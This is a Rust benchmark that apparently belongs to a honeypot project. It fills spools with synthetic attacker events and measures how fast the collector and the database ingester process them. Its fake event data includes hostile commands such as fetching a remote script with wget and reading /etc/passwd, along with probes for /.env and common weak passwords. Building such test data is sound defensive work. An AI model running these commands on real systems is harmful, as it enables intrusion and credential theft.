//! Events per second of the capture path, with the real program: 200,000 mixed events
//! (40 % connect, 20 % credentials, 20 % http requests with headers, 15 % commands, 5 %
//! disconnect; 1,000 attackers, 40 deckies, as many sessions as connects) lie in the
//! spools; measured are the collector
//! alone, the ingester alone on what it wrote, and both together.
//!
//! `cargo bench --bench ingest [EVENTS]`. Budget: 50,000 events/s into the database on
//! two cores.
#![expect(
    clippy::unwrap_used,
    clippy::print_stdout,
    reason = "a measurement stops on the first surprise and prints its result"
)]

use std::fs;
use std::net::{Ipv4Addr, SocketAddr};
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use decnet::db::Db;
use decnet::model::{Credential, Event, Flow, Proto, Severity, Stamp};
use decnet::syslog::{self, spool};
use rand::rngs::StdRng;
use rand::{RngExt, SeedableRng};

const DECKIES: usize = 40;
const ATTACKERS: u32 = 1000;
/// Sessions open at once.
const OPEN: usize = 256;

fn main() {
    let events = std::env::args()
        .filter_map(|a| a.parse::<u64>().ok())
        .next()
        .unwrap_or(200_000);
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    let dir = tempfile::tempdir().unwrap();
    fill(dir.path(), events);
    let json = dir.path().join("log/decnet.json");
    let collector = Stopwatch::start(dir.path(), "collector");
    wait(|| newlines(&json) >= events);
    collector.stop("collector: spools to event files", events);
    let db = runtime
        .block_on(Db::open(&dir.path().join("decnet.db")))
        .unwrap();
    let stored = || {
        runtime
            .block_on(db.log_latest_id())
            .unwrap()
            .cast_unsigned()
    };
    let ingester = Stopwatch::start(dir.path(), "ingester");
    wait(|| stored() >= events);
    ingester.stop("ingester: event file to database", events);
    let size = fs::metadata(dir.path().join("decnet.db")).unwrap().len();
    println!("database: {} bytes per event", size / events);

    let dir = tempfile::tempdir().unwrap();
    fill(dir.path(), events);
    let db = runtime
        .block_on(Db::open(&dir.path().join("decnet.db")))
        .unwrap();
    let stored = || {
        runtime
            .block_on(db.log_latest_id())
            .unwrap()
            .cast_unsigned()
    };
    let collector = Stopwatch::start(dir.path(), "collector");
    let ingester = Stopwatch::start(dir.path(), "ingester");
    wait(|| stored() >= events);
    ingester.stop("both: spools to database", events);
    collector.stop("both, the collector's share", events);
}

struct Stopwatch {
    child: Child,
    began: Instant,
}

impl Stopwatch {
    fn start(state: &Path, worker: &str) -> Self {
        let began = Instant::now();
        let child = Command::new(env!("CARGO_BIN_EXE_decnet"))
            .arg("--state-dir")
            .arg(state)
            .arg(worker)
            .env("DECNET_BUS_ENABLED", "false")
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        Self { child, began }
    }

    fn stop(mut self, what: &str, events: u64) {
        let took = self.began.elapsed();
        let pid = self.child.id();
        let cpu = cpu_seconds(pid);
        let peak = peak_kib(pid);
        self.child.kill().unwrap();
        self.child.wait().unwrap();
        println!(
            "{what}: {:.0} events/s ({:.2} s; {cpu:.2} s of processor; peak {:.1} MiB)",
            events as f64 / took.as_secs_f64(),
            took.as_secs_f64(),
            peak as f64 / 1024.0
        );
    }
}

fn cpu_seconds(pid: u32) -> f64 {
    let stat = fs::read_to_string(format!("/proc/{pid}/stat")).unwrap();
    let rest = stat.rsplit_once(')').unwrap().1;
    let ticks: f64 = rest
        .split_whitespace()
        .skip(11)
        .take(2)
        .map(|t| t.parse::<f64>().unwrap())
        .sum();
    ticks / 100.0
}

fn peak_kib(pid: u32) -> u64 {
    let status = fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    let line = status.lines().find(|l| l.starts_with("VmHWM:")).unwrap();
    line.split_whitespace().nth(1).unwrap().parse().unwrap()
}

fn newlines(path: &Path) -> u64 {
    let bytes = fs::read(path).unwrap_or_default();
    bytes.iter().filter(|b| **b == b'\n').count() as u64
}

fn wait(done: impl Fn() -> bool) {
    let deadline = Instant::now() + Duration::from_secs(300);
    while !done() {
        assert!(Instant::now() < deadline, "not done within five minutes");
        std::thread::park_timeout(Duration::from_millis(50));
    }
}

fn fill(state: &Path, events: u64) {
    let mut rng = StdRng::seed_from_u64(7);
    let names: Vec<String> = (1..=DECKIES).map(|d| format!("decky-{d:02}")).collect();
    let spools: Vec<spool::Writer> = names
        .iter()
        .map(|name| {
            let dir = state.join("run/deckies").join(name);
            fs::create_dir_all(&dir).unwrap();
            spool::Writer::open(&dir, 1 << 32).unwrap()
        })
        .collect();
    let mut open = Vec::new();
    for n in 0..events {
        let (decky, event) = make(&mut rng, n, &names, &mut open);
        spools[decky].append(&syslog::write(&event)).unwrap();
    }
}

/// Somebody on a decky.
struct Visit {
    decky: usize,
    src: SocketAddr,
    session: String,
}

impl Visit {
    fn new(rng: &mut StdRng) -> Self {
        // Popularity of a source is about 1/rank.
        let rank = rng.random_range(0.0f64..1.0).powi(4) * f64::from(ATTACKERS);
        let rank = format!("{rank:.0}").parse::<u32>().unwrap();
        let source = Ipv4Addr::from(0xc612_0001 + rank);
        Self {
            decky: rng.random_range(0..DECKIES),
            src: (source, rng.random_range(1024..65535)).into(),
            session: decnet::decoy::session::new_id(),
        }
    }
}

fn make(rng: &mut StdRng, n: u64, names: &[String], open: &mut Vec<Visit>) -> (usize, Event) {
    let words = ["123456", "password", "admin", "toor", "qwerty", "letmein"];
    let paths = [
        "/",
        "/admin",
        "/login",
        "/.env",
        "/wp-login.php",
        "/robots.txt",
    ];
    let commands = [
        "uname -a",
        "cat /etc/passwd",
        "wget http://198.18.9.9/x.sh",
        "id",
    ];
    let text = |k: &str, v: &str| (k.to_owned(), v.to_owned());
    let what = rng.random_range(0..100);
    if what < 40 || open.is_empty() {
        if open.len() == OPEN {
            open.swap_remove(rng.random_range(0..OPEN));
        }
        open.push(Visit::new(rng));
    }
    let at = if what < 40 {
        open.len() - 1
    } else {
        rng.random_range(0..open.len())
    };
    let (service, kind, fields) = match what {
        0..40 => ("redis", "connect", Vec::new()),
        40..60 => {
            let word = words[rng.random_range(0..words.len())];
            let secret = format!("{word}{}", rng.random_range(0..100));
            let mut fields = Credential::plaintext(Some("root"), secret.as_bytes()).fields();
            fields.push(text("outcome", "failure"));
            ("ftp", "auth_attempt", fields)
        }
        60..80 => (
            "http",
            "request",
            vec![
                text("method", "GET"),
                text("path", paths[rng.random_range(0..paths.len())]),
                text(
                    "headers",
                    "{\"Host\": \"www\", \"User-Agent\": \"python-requests/2.31.0\", \"Accept\": \"*/*\"}",
                ),
            ],
        ),
        80..95 => (
            "redis",
            "command",
            vec![text(
                "command",
                commands[rng.random_range(0..commands.len())],
            )],
        ),
        _ => ("redis", "disconnect", vec![text("duration_ms", "1234")]),
    };
    let visit = &open[at];
    let event = Event {
        eid: decnet::decoy::session::new_id(),
        ts: Stamp(1_776_478_976_000_000 + i64::try_from(n).unwrap() * 700),
        severity: Severity::Info,
        decky: names[visit.decky].clone(),
        service: service.into(),
        kind: kind.into(),
        flow: Some(Flow {
            src: visit.src,
            dst: "127.77.0.1:6379".parse().unwrap(),
            proto: Proto::Tcp,
            session: visit.session.clone(),
        }),
        fields,
        msg: String::new(),
    };
    let decky = visit.decky;
    if kind == "disconnect" {
        open.swap_remove(at);
    }
    (decky, event)
}
